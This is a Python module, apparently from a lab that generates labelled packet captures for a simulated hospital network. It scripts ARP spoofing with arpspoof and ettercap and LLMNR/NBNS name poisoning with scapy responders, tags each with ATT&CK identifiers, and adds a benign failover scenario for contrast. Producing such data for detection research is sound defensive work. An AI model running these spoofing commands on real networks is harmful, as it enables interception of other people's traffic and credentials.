"""Lies on the local network: ARP by dsniff and ettercap, LLMNR and NBNS names by scapy."""

from __future__ import annotations

import sys
import time

from sample_pcaps.hospital import HOSTS
from sample_pcaps.lab.network import gateway_of
from sample_pcaps.lab.story import SPAN, Stage, Story, Truth

_LIAR = HOSTS["EMR-3E-04"]
_VICTIM = HOSTS["EMR-3E-01"]
_GATEWAY = gateway_of(20)


def arpspoof(stage: Stage) -> None:
    liar = stage[_LIAR.name]
    stage[_VICTIM.name].run("ping", "-c", "2", "-i", "0.3", _GATEWAY)
    truth = Truth("arpspoof tells a terminal that the gateway is elsewhere", ("T1557.002",),
                  _LIAR.ip, (), (SPAN,), (_LIAR.mac, _GATEWAY))  # fmt: skip
    with stage.happens(truth):
        liar.start("arpspoof", "-i", "eth0", "-t", _VICTIM.ip, _GATEWAY)
        stage[_VICTIM.name].run("ping", "-c", "20", "-i", "0.4", _GATEWAY, check=False)


def ettercap(stage: Stage) -> None:
    liar = stage[_LIAR.name]
    stage[_VICTIM.name].run("ping", "-c", "2", "-i", "0.3", _GATEWAY)
    truth = Truth("ettercap stands between a terminal and the gateway", ("T1557.002", "T1557"),
                  _LIAR.ip, (), (SPAN,), (_LIAR.mac, _GATEWAY))  # fmt: skip
    with stage.happens(truth):
        liar.start("ettercap", "-Tq", "-i", "eth0", "-M", "arp:remote", f"/{_VICTIM.ip}//",
                   f"/{_GATEWAY}//")  # fmt: skip
        stage[_VICTIM.name].run("ping", "-c", "20", "-i", "0.5", _GATEWAY, check=False)


def names(stage: Stage) -> None:
    """Whoever asks for a name that is nobody's gets the liar's address."""
    liar, victim = stage[_LIAR.name], stage[_VICTIM.name]
    for answering, option in (("LLMNR_am", "joker"), ("NBNS_am", "ip")):
        words = f"{answering}(iface='eth0', {option}='{_LIAR.ip}')()"
        liar.start(sys.executable, "-c", f"from scapy.all import *; {words}")
    time.sleep(4)
    truth = Truth("somebody answers whatever name is asked for (LLMNR, NBNS)", ("T1557.001",),
                  _LIAR.ip, (), (SPAN,), (_LIAR.mac,))  # fmt: skip
    with stage.happens(truth):
        for name in ("fileservr", "wpad", "printsv9", "kanri-pc"):
            victim.run(
                "dig", "+tries=1", "+time=1", "-p", "5355", "@224.0.0.252", name, check=False
            )
            victim.run("nmblookup", "-B", "10.20.21.255", name, check=False)


def carp_free(stage: Stage) -> None:
    """The benign twin: a server's address moves to its stand-by, which says so once."""
    victim, standby = stage[_VICTIM.name], stage["EMR-3E-02"]
    victim.run("ping", "-c", "2", "-i", "0.3", _LIAR.ip)
    stage[_LIAR.name].run("ip", "link", "set", "eth0", "down")
    standby.run("ip", "addr", "add", f"{_LIAR.ip}/23", "dev", "eth0")
    standby.run("arping", "-c", "2", "-U", "-I", "eth0", _LIAR.ip, check=False)
    victim.run("ping", "-c", "4", "-i", "0.3", _LIAR.ip, check=False)


_HOSTS = (_LIAR.name, _VICTIM.name)
STORIES = (
    Story("spoof-arp", "ARP spoofing by arpspoof", arpspoof, ("arpspoof:dsniff",), _HOSTS),
    Story("spoof-ettercap", "ARP spoofing by ettercap", ettercap,
          ("ettercap:ettercap-text-only",), _HOSTS, is_short=False),
    Story("spoof-names", "LLMNR and NBNS spoofing", names,
          ("dig:bind9-dnsutils", "nmblookup:samba-common-bin"), _HOSTS, is_short=False),
    Story("benign-failover", "An address moves to a stand-by", carp_free, ("arping:arping",),
          (*_HOSTS, "EMR-3E-02"), is_short=False, is_benign=True),
)  # fmt: skip
